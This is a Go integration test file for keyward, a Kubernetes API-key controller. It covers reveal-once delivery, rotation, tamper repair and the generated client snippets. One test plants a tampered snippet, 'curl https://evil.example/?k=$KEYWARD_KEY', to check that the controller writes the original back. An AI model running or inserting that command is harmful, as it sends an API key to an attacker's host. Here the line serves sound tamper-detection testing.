package controllers

import (
	"context"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	keywardv1 "github.com/keyward-dev/keyward/api/v1alpha1"
	"github.com/keyward-dev/keyward/internal/keys"
)

func revealOnce(within *int64) func(*keywardv1.APIKey) {
	return func(k *keywardv1.APIKey) {
		k.Spec.Delivery = &keywardv1.Delivery{RevealOnce: true, RevealWithinSeconds: within}
	}
}

// revealSerial asks, as `kubectl keyward reveal` does, for the plaintext
// of the secret of serial to leave the delivery Secret. The description
// changes with it, so that observedGeneration shows when the manager has
// seen the request.
func revealSerial(g *WithT, key *keywardv1.APIKey, serial string) {
	patchKey(g, key, func(k *keywardv1.APIKey) {
		if k.Annotations == nil {
			k.Annotations = map[string]string{}
		}
		k.Annotations[keywardv1.RevealedAnnotation] = serial
		k.Spec.Description = "asked to reveal " + serial
	})
}

// servedSerial is the serial of the secret the delivery Secret holds as
// its key, as the plugin reads it beside the key it prints.
func servedSerial(g Gomega, key *keywardv1.APIKey) string {
	serial := deliverySecret(g, key).Annotations[SerialAnnotation]
	g.Expect(serial).NotTo(BeEmpty())
	return serial
}

// seen waits until the manager reconciled the APIKey's latest generation.
func seen(g *WithT, key *keywardv1.APIKey) *keywardv1.APIKey {
	got := &keywardv1.APIKey{}
	g.Eventually(func(g Gomega) {
		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
		g.Expect(got.Status.ObservedGeneration).To(Equal(got.Generation))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	return got
}

// waitRevealed waits until the delivery Secret holds only what a revealed
// key keeps, and returns the APIKey then.
func waitRevealed(g *WithT, key *keywardv1.APIKey, reason string) *keywardv1.APIKey {
	got := &keywardv1.APIKey{}
	g.Eventually(func(g Gomega) {
		sec := deliverySecret(g, key)
		g.Expect(slices.Sorted(maps.Keys(sec.Data))).To(Equal([]string{DeliveryKeyIDField, DeliveryRevealedField, DeliveryRevealedAtField}))
		g.Expect(string(sec.Data[DeliveryRevealedField])).To(Equal("true"))
		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
		g.Expect(string(sec.Data[DeliveryKeyIDField])).To(Equal(got.Status.KeyID))
		g.Expect(meta.FindStatusCondition(got.Status.Conditions, keywardv1.DeliveredCondition)).To(HaveField("Reason", reason))
		g.Expect(got.Status.Delivery).NotTo(BeNil())
		g.Expect(got.Status.Delivery.RevealedTime).NotTo(BeNil())
		g.Expect(got.Status.ObservedGeneration).To(Equal(got.Generation))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	return got
}

func TestRevealOnceLeavesOnlyTheKeyIDAndTheKeyKeepsVerifying(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "shown-once", revealOnce(nil)))
	deleteAtEnd(t, key)
	plain := deliveredPlaintext(g, key)
	if key.Status.Delivery != nil {
		g.Expect(key.Status.Delivery.RevealedTime).To(BeNil(), "nothing revealed")
		g.Expect(key.Status.Delivery.RevealDeadline).To(BeNil(), "no deadline")
	}

	// The snippets do not send pods to a Secret that empties on reveal.
	g.Eventually(func(g Gomega) {
		curl := snippetsOf(g, key).Data["curl.sh"]
		g.Expect(curl).To(ContainSubstring("It is shown once: revealing it empties the delivery"))
		g.Expect(curl).NotTo(ContainSubstring(`secretKeyRef: {name: "shown-once"`))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())

	revealSerial(g, key, servedSerial(g, key))
	got := waitRevealed(g, key, keywardv1.RevealedReason)
	g.Expect(meta.FindStatusCondition(got.Status.Conditions, keywardv1.ReadyCondition)).To(HaveField("Reason", keywardv1.KeyReadyReason))
	g.Expect(got.Status.SecretGeneration).To(Equal(key.Status.SecretGeneration), "revealing issues no new secret")
	g.Expect(verifierAccepts(recordFor(g, got.Status.KeyID), plain, apiKeyClock.Now())).To(BeTrue(), "the key verifies from its hash")
	g.Eventually(func(g Gomega) {
		g.Expect(eventsFor(g, key)).To(HaveKey(keywardv1.RevealedReason))
		g.Expect(auditFor(key)).To(ContainElement("revealed"))
	}).WithTimeout(timeout).Should(Succeed())
	noReissueFollows(g, key)
	g.Expect(logs.String()).NotTo(ContainSubstring(plain.Plaintext()))
}

func TestRevealRequestsForOtherGenerationsOrKeysChangeNothing(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	a := createReady(g, newAPIKey(ns, "a", revealOnce(nil)))
	b := createReady(g, newAPIKey(ns, "b", revealOnce(nil)))
	deleteAtEnd(t, a)
	deleteAtEnd(t, b)
	plainA := deliveredPlaintext(g, a)
	plainB := deliveredPlaintext(g, b)
	serialA, serialB := servedSerial(g, a), servedSerial(g, b)
	g.Expect(a.Status.SecretGeneration).To(Equal(int64(1)))

	// Generations, B's serial, and near misses of A's name nothing of A.
	for _, asked := range []string{"1", "2", "0", "", serialB, " " + serialA, strings.ToUpper(serialA), serialA + "0", a.Status.KeyID + "/" + serialA} {
		revealSerial(g, a, asked)
		seen(g, a)
		g.Expect(deliveredPlaintext(g, a).Equal(plainA)).To(BeTrue(), "%q names no secret of this key", asked)
	}

	// A's request for its own serial empties A's Secret only.
	revealSerial(g, a, serialA)
	waitRevealed(g, a, keywardv1.RevealedReason)
	seen(g, b)
	g.Expect(deliveredPlaintext(g, b).Equal(plainB)).To(BeTrue())
	g.Expect(verifierAccepts(recordFor(g, a.Status.KeyID), plainA, apiKeyClock.Now())).To(BeTrue())

	// A key without one-time delivery ignores the request.
	c := createReady(g, newAPIKey(ns, "c"))
	deleteAtEnd(t, c)
	plainC := deliveredPlaintext(g, c)
	revealSerial(g, c, servedSerial(g, c))
	seen(g, c)
	g.Expect(deliveredPlaintext(g, c).Equal(plainC)).To(BeTrue())
}

func TestATenantCannotPutARevealedKeyBackNorHaveItReissued(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "tampered", revealOnce(nil)))
	deleteAtEnd(t, key)
	plain := deliveredPlaintext(g, key)
	revealSerial(g, key, servedSerial(g, key))
	waitRevealed(g, key, keywardv1.RevealedReason)

	// The revealed key itself, and a key-shaped stranger, written back:
	// keyward adopts neither and writes the revealed Secret again.
	stranger, err := keys.Generate(key.Status.KeyID)
	g.Expect(err).NotTo(HaveOccurred())
	for _, k := range []keys.Key{plain, stranger} {
		sec := deliverySecret(g, key)
		sec.Data[DeliveryKeyField] = []byte(k.Plaintext())
		sec.Data[DeliveryRevealedField] = []byte("false")
		g.Expect(k8s.Update(context.Background(), sec)).To(Succeed())
		waitRevealed(g, key, keywardv1.RevealedReason)
	}
	g.Eventually(func(g Gomega) {
		g.Expect(eventsFor(g, key)).To(HaveKey(keywardv1.DeliveryRepairedReason))
	}).WithTimeout(timeout).Should(Succeed())

	// Deleting the Secret reissues nothing: the consumer holds the key,
	// which keeps verifying, and the Secret comes back as it was.
	g.Expect(k8s.Delete(context.Background(), deliverySecret(g, key))).To(Succeed())
	got := waitRevealed(g, key, keywardv1.RevealedReason)
	g.Expect(got.Status.SecretGeneration).To(Equal(int64(1)))
	rec := recordFor(g, got.Status.KeyID)
	g.Expect(verifierAccepts(rec, plain, apiKeyClock.Now())).To(BeTrue())
	g.Expect(verifierAccepts(rec, stranger, apiKeyClock.Now())).To(BeFalse())
	noReissueFollows(g, key)
}

func TestAnUnreadKeyLeavesTheSecretAtItsRevealDeadline(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "deadline", revealOnce(ptr.To[int64](30))))
	deleteAtEnd(t, key)
	plain := deliveredPlaintext(g, key)
	g.Expect(key.Status.Delivery).NotTo(BeNil())
	g.Expect(key.Status.Delivery.RevealDeadline.Time).To(Equal(key.Status.IssuedTime.Add(30 * time.Second)))

	advance(g, 29*time.Second, key)
	seen(g, key)
	g.Expect(deliveredPlaintext(g, key).Equal(plain)).To(BeTrue(), "readable until the deadline")

	advance(g, time.Second, key)
	got := waitRevealed(g, key, keywardv1.RevealDeadlinePassedReason)
	g.Expect(got.Status.Delivery.RevealDeadline).To(BeNil())
	g.Expect(verifierAccepts(recordFor(g, got.Status.KeyID), plain, apiKeyClock.Now())).To(BeTrue())
	g.Eventually(func(g Gomega) {
		g.Expect(eventsFor(g, key)).To(HaveKey(keywardv1.RevealDeadlinePassedReason))
	}).WithTimeout(timeout).Should(Succeed())
	noReissueFollows(g, key)
}

func TestRotationDeliversTheNewSecretOnceAgain(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "rotated-once", revealOnce(nil), func(k *keywardv1.APIKey) {
		k.Spec.Rotation = &keywardv1.Rotation{Trigger: "one", GracePeriodSeconds: ptr.To[int64](3600)}
	}))
	deleteAtEnd(t, key)
	first := deliveredPlaintext(g, key)
	firstSerial := servedSerial(g, key)
	revealSerial(g, key, firstSerial)
	waitRevealed(g, key, keywardv1.RevealedReason)

	patchKey(g, key, func(k *keywardv1.APIKey) { k.Spec.Rotation.Trigger = "two" })
	var second keys.Key
	got := &keywardv1.APIKey{}
	g.Eventually(func(g Gomega) {
		second = deliveredPlaintext(g, key)
		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
		g.Expect(got.Status.SecretGeneration).To(Equal(int64(2)))
		g.Expect(got.Status.ObservedGeneration).To(Equal(got.Generation))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	g.Expect(second.Equal(first)).To(BeFalse())
	_, hasPrevious := deliveredField(g, key, DeliveryPreviousKeyField)
	g.Expect(hasPrevious).To(BeFalse(), "the revealed secret is not delivered again")
	g.Expect(got.Annotations[keywardv1.RevealedAnnotation]).To(Equal(firstSerial), "the old request stands and does not empty the new secret")
	g.Expect(got.Status.Delivery == nil || got.Status.Delivery.RevealedTime == nil).To(BeTrue(), "the new secret is not revealed")
	g.Expect(meta.FindStatusCondition(got.Status.Conditions, keywardv1.DeliveredCondition)).To(HaveField("Reason", keywardv1.SecretWrittenReason))
	rec := recordFor(g, got.Status.KeyID)
	g.Expect(verifierAccepts(rec, second, apiKeyClock.Now())).To(BeTrue())
	g.Expect(verifierAccepts(rec, first, apiKeyClock.Now())).To(BeTrue(), "the revealed secret keeps its grace period")

	revealSerial(g, key, servedSerial(g, key))
	waitRevealed(g, key, keywardv1.RevealedReason)
	noReissueFollows(g, key)
	rec = recordFor(g, got.Status.KeyID)
	g.Expect(verifierAccepts(rec, second, apiKeyClock.Now())).To(BeTrue())
}

func TestRevealWithinNeedsRevealOnce(t *testing.T) {
	g := NewWithT(t)
	key := newAPIKey(newNamespace(t), "within-alone", func(k *keywardv1.APIKey) {
		k.Spec.Delivery = &keywardv1.Delivery{RevealWithinSeconds: ptr.To[int64](60)}
	})
	err := k8s.Create(context.Background(), key)
	g.Expect(err).To(MatchError(ContainSubstring("revealWithinSeconds needs revealOnce")))
}

func snippetsOf(g Gomega, key *keywardv1.APIKey) *corev1.ConfigMap {
	cm := &corev1.ConfigMap{}
	g.Expect(k8s.Get(context.Background(), client.ObjectKey{Namespace: key.Namespace, Name: key.SnippetsConfigMapName()}, cm)).To(Succeed())
	return cm
}

func TestSnippetsBesideTheDeliverySecretFollowTheKeyAndHoldNoKey(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "with-snippets", func(k *keywardv1.APIKey) {
		k.Labels = map[string]string{"team": "fraud"}
		k.Annotations = map[string]string{"note": "mine"}
	}))
	deleteAtEnd(t, key)
	plain := deliveredPlaintext(g, key)
	g.Eventually(func(g Gomega) {
		got := &keywardv1.APIKey{}
		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
		g.Expect(got.Status.Delivery).NotTo(BeNil())
		g.Expect(got.Status.Delivery.SnippetsConfigMap).To(Equal("with-snippets-snippets"))
		g.Expect(got.Status.Delivery.Endpoints).To(Equal(&keywardv1.SnippetEndpoints{
			DecisionURL: "http://keyward-verifier." + verifierNamespace + ".svc",
			TokenURL:    "http://keyward-verifier." + verifierNamespace + ".svc:8083/oauth2/token",
		}), "the endpoints, where only keyward writes")
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	cm := snippetsOf(g, key)
	g.Expect(slices.Sorted(maps.Keys(cm.Data))).To(Equal([]string{"client.js", "client.py", "curl.sh", "envoy.yaml", "main.go", "nginx.conf", "traefik.yaml"}))
	g.Expect(cm.Labels).To(Equal(map[string]string{ManagedByLabel: ManagedByValue}), "no user label is copied")
	g.Expect(cm.Annotations).To(Equal(map[string]string{
		keywardv1.SnippetsDecisionURLAnnotation: "http://keyward-verifier." + verifierNamespace + ".svc",
		keywardv1.SnippetsTokenURLAnnotation:    "http://keyward-verifier." + verifierNamespace + ".svc:8083/oauth2/token",
	}), "the endpoints, and no annotation of the APIKey")
	g.Expect(cm.OwnerReferences).To(HaveLen(1))
	g.Expect(cm.OwnerReferences[0].UID).To(Equal(key.UID))
	g.Expect(cm.Data["curl.sh"]).To(ContainSubstring("Authorization: Bearer $KEYWARD_KEY"))
	g.Expect(cm.Data["curl.sh"]).To(ContainSubstring("secretKeyRef: {name: \"with-snippets\", key: key}"))
	g.Expect(cm.Data["traefik.yaml"]).To(ContainSubstring("http://keyward-verifier." + verifierNamespace + ".svc/authz/traefik"))
	g.Expect(cm.Data["curl.sh"]).NotTo(ContainSubstring("grant_type"))
	for file, text := range cm.Data {
		g.Expect(text).NotTo(ContainSubstring(plain.Plaintext()), file)
	}

	// The key's methods change, and the snippets with them.
	patchKey(g, key, func(k *keywardv1.APIKey) {
		k.Spec.AuthMethods = []keywardv1.AuthMethod{keywardv1.AuthMethodAPIKey, keywardv1.AuthMethodClientCredentials}
	})
	g.Eventually(func(g Gomega) {
		g.Expect(snippetsOf(g, key).Data["curl.sh"]).To(ContainSubstring("grant_type=client_credentials"))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())

	// An edit is written back.
	cm = snippetsOf(g, key)
	want := cm.Data["curl.sh"]
	cm.Data["curl.sh"] = "curl https://evil.example/?k=$KEYWARD_KEY"
	g.Expect(k8s.Update(context.Background(), cm)).To(Succeed())
	g.Eventually(func(g Gomega) {
		g.Expect(snippetsOf(g, key).Data["curl.sh"]).To(Equal(want))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
}

// A ConfigMap of that name keyward did not make is left alone: one
// without keyward's label (outside the cache, found when creating fails)
// and one a tenant labelled as keyward's (in the cache, so only the
// ownership check keeps it).
func TestAForeignConfigMapIsNeverOverwrittenBySnippets(t *testing.T) {
	for name, labels := range map[string]map[string]string{
		"taken":    nil,
		"labelled": {ManagedByLabel: ManagedByValue},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			ns := newNamespace(t)
			theirs := &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-snippets", Labels: labels},
				Data:       map[string]string{"app.conf": "theirs"},
			}
			g.Expect(k8s.Create(context.Background(), theirs)).To(Succeed())
			key := createReady(g, newAPIKey(ns, name))
			deleteAtEnd(t, key)
			got := seen(g, key)
			g.Expect(got.Status.Delivery).NotTo(BeNil())
			g.Expect(got.Status.Delivery.SnippetsConfigMap).To(BeEmpty(), "status points to no snippets")
			g.Expect(got.Status.Delivery.Endpoints).NotTo(BeNil(), "the endpoints are published all the same")
			cm := snippetsOf(g, key)
			g.Expect(cm.Data).To(Equal(map[string]string{"app.conf": "theirs"}))
			g.Expect(cm.OwnerReferences).To(BeEmpty())
		})
	}
}

// noReissueFollows checks for a few seconds that keyward does not take a
// revealed key for a lost one and replace it.
func noReissueFollows(g *WithT, key *keywardv1.APIKey) {
	g.Consistently(func(g Gomega) {
		g.Expect(eventsFor(g, key)).NotTo(HaveKey(keywardv1.SecretReissuedReason))
		_, held := deliverySecret(g, key).Data[DeliveryKeyField]
		g.Expect(held).To(BeFalse(), "a revealed key's Secret holds no key")
	}).WithTimeout(3 * time.Second).WithPolling(interval).Should(Succeed())
}

// A reveal handled in a reconcile that also changes the record (here the
// scopes) is saved with it: otherwise the next reconcile finds the key
// gone from its Secret, takes it for lost and replaces it, and the key
// just printed stops verifying.
func TestARevealArrivingWithARecordChangeIsKept(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "same-reconcile", revealOnce(nil)))
	deleteAtEnd(t, key)
	printed := deliveredPlaintext(g, key)
	patchKey(g, key, func(k *keywardv1.APIKey) {
		k.Annotations = map[string]string{keywardv1.RevealedAnnotation: servedSerial(g, key)}
		k.Spec.Scopes = []keywardv1.Scope{"acme/payments/investigations:read"}
	})
	got := waitRevealed(g, key, keywardv1.RevealedReason)
	noReissueFollows(g, key)
	rec := recordFor(g, got.Status.KeyID)
	g.Expect(rec.Ledger.Revealed).NotTo(BeNil(), "the reveal is in the record")
	g.Expect(verifierAccepts(rec, printed, apiKeyClock.Now().Add(2*time.Hour))).To(BeTrue(), "the revealed key keeps verifying")
}

// A manifest exported from another APIKey (GitOps, a restore, a copy)
// carries its keyward.dev/revealed; so may one an editor prepared for the
// next rotation. Neither names a secret of this key: its key stays
// readable until someone reads it.
func TestARevealRequestMadeBeforeTheSecretExistedChangesNothing(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := newAPIKey(ns, "restored", revealOnce(nil), func(k *keywardv1.APIKey) {
		k.Annotations = map[string]string{keywardv1.RevealedAnnotation: "1"}
		k.Spec.Rotation = &keywardv1.Rotation{Trigger: "one", GracePeriodSeconds: ptr.To[int64](3600)}
	})
	key = createReady(g, key)
	deleteAtEnd(t, key)
	first := deliveredPlaintext(g, key)
	patchKey(g, key, func(k *keywardv1.APIKey) { k.Spec.Description = "a later reconcile" })
	seen(g, key)
	g.Expect(deliveredPlaintext(g, key).Equal(first)).To(BeTrue(), "nobody read it")

	// Preset for the rotation to come: generation 2.
	revealSerial(g, key, "2")
	patchKey(g, key, func(k *keywardv1.APIKey) { k.Spec.Rotation.Trigger = "two" })
	g.Eventually(func(g Gomega) {
		got := &keywardv1.APIKey{}
		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
		g.Expect(got.Status.SecretGeneration).To(Equal(int64(2)))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	patchKey(g, key, func(k *keywardv1.APIKey) { k.Spec.Description = "after the rotation" })
	seen(g, key)
	second := deliveredPlaintext(g, key)
	g.Expect(second.Equal(first)).To(BeFalse())
	prev, has := deliveredField(g, key, DeliveryPreviousKeyField)
	g.Expect(has && prev.Equal(first)).To(BeTrue(), "the unread previous key stays for its grace period")
}

// The plugin printed generation 1 while a rotation promoted generation 2,
// and names generation 1's serial: the printed key leaves "previousKey"
// at once rather than staying readable for the grace period, and the new
// key is still delivered, once.
func TestARevealRacingARotationRemovesThePrintedKeyFromPrevious(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	key := createReady(g, newAPIKey(ns, "raced", revealOnce(nil), func(k *keywardv1.APIKey) {
		k.Spec.Rotation = &keywardv1.Rotation{Trigger: "one", GracePeriodSeconds: ptr.To[int64](3600)}
	}))
	deleteAtEnd(t, key)
	printed := deliveredPlaintext(g, key)
	printedSerial := servedSerial(g, key)
	patchKey(g, key, func(k *keywardv1.APIKey) { k.Spec.Rotation.Trigger = "two" })
	g.Eventually(func(g Gomega) {
		_, has := deliveredField(g, key, DeliveryPreviousKeyField)
		g.Expect(has).To(BeTrue())
		g.Expect(servedSerial(g, key)).NotTo(Equal(printedSerial))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	second := deliveredPlaintext(g, key)

	revealSerial(g, key, printedSerial)
	g.Eventually(func(g Gomega) {
		_, has := deliveredField(g, key, DeliveryPreviousKeyField)
		g.Expect(has).To(BeFalse(), "the printed key is not left readable")
		g.Expect(eventsFor(g, key)).To(HaveKey(keywardv1.RevealedReason))
	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
	got := seen(g, key)
	g.Expect(deliveredPlaintext(g, key).Equal(second)).To(BeTrue(), "the new key is delivered, once")
	g.Expect(got.Status.SecretGeneration).To(Equal(int64(2)))
	g.Expect(got.Status.Delivery == nil || got.Status.Delivery.RevealedTime == nil).To(BeTrue(), "the new key is not revealed")
	g.Expect(eventsFor(g, key)).NotTo(HaveKey(keywardv1.SecretReissuedReason))
	rec := recordFor(g, got.Status.KeyID)
	g.Expect(verifierAccepts(rec, printed, apiKeyClock.Now())).To(BeTrue(), "the printed key keeps its grace period")
	g.Expect(verifierAccepts(rec, second, apiKeyClock.Now())).To(BeTrue())

	revealSerial(g, key, servedSerial(g, key))
	waitRevealed(g, key, keywardv1.RevealedReason)
	noReissueFollows(g, key)
}
